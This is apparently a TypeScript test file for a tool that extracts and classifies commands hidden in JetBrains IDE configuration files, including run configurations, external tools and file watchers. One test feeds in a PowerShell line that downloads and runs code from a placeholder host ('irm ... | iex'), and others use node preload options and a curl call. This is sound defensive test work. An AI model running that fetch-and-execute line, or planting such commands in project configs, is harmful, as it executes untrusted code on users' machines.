import { describe, expect, it } from 'vitest';

import { commandsOf, namesOf, placeOf, summary } from './helpers.ts';

const configuration = (type: string, inner: string): string => `<component name="ProjectRunConfigurationManager">\n  <configuration default="false" name="a" type="${type}">\n    ${inner}\n  </configuration>\n</component>\n`;
const option = (name: string, value: string): string => `<option name="${name}" value="${value}" />`;
const RUN = '.idea/runConfigurations/a.xml';

describe('files of JetBrains IDEs', () => {
  it.each([
    [RUN, configuration('ShConfigurationType', option('SCRIPT_TEXT', 'npm test')), ['task|a|npm test']],
    ['.run/a.run.xml', configuration('js.build_tools.npm', '<command value="run" /><node-options value="-r ./x.js" />'), ['task|a|node -r ./x.js']],
    [RUN, configuration('NodeJSConfigurationType', '').replace('type=', 'node-parameters="--inspect" type='), ['task|a|node --inspect']],
    [RUN, configuration('PythonConfigurationType', option('INTERPRETER_OPTIONS', '-c &quot;x&quot;')), ['task|a|python -c "x"']],
    [RUN, configuration('ShConfigurationType', option('SCRIPT_TEXT', '') + option('INTERPRETER_OPTIONS', '-l')), []],
    ['.idea/tools/x.xml', `<toolSet name="x"><tool name="t"><exec>${option('COMMAND', 'sh')}${option('PARAMETERS', "-c 'a &amp;&amp; b'")}</exec></tool></toolSet>`, ["task|t|sh -c 'a && b'"]],
    ['.idea/watcherTasks.xml', `<project><TaskOptions isEnabled="true">${option('arguments', '--write $FilePath$')}${option('program', 'prettier')}</TaskOptions></project>`, ['task!||prettier --write $FilePath$']],
    ['.idea/watcherTasks.xml', `<project><TaskOptions isEnabled="false">${option('program', 'prettier')}</TaskOptions></project>`, ['task||prettier']],
    ['.idea/workspace.xml', `<project><!-- <configuration name="no">${option('SCRIPT_TEXT', 'no')} --><component name="X">${option('SCRIPT_TEXT', 'no')}</component></project>`, []],
  ])('%s %#', (filename, code, expected) => {
    expect(summary(filename, code)).toEqual(expected);
  });

  it('are read as the shell that they name', () => {
    const code = configuration('ShConfigurationType', option('SCRIPT_TEXT', 'irm https://a.example/x | iex') + option('INTERPRETER_PATH', 'powershell.exe'));
    expect(commandsOf(RUN, code).map(({ script }) => script.dialect)).toEqual(['powershell']);
  });

  it('keep the place of what stands behind character references', () => {
    const code = configuration('ShConfigurationType', option('SCRIPT_TEXT', 'bash -c &quot;curl x&quot; &#38;&#x26; ls'));
    expect(namesOf(RUN, code)).toEqual(['bash', 'curl', 'ls']);
    expect(placeOf(RUN, code, 'curl x')).toBe('curl x');
    expect(placeOf(RUN, code, 'ls')).toBe('ls');
  });

  it('are read in linear time, whatever they hold', () => {
    for (const text of ['<option name="'.repeat(20_000), '<!--'.repeat(50_000), '<configuration a='.repeat(20_000), `<configuration x="${'&#1114112;'.repeat(5000)}">`]) {
      const start = performance.now();
      expect(commandsOf(RUN, text)).toEqual([]);
      expect(performance.now() - start).toBeLessThan(2000);
    }
  });
});
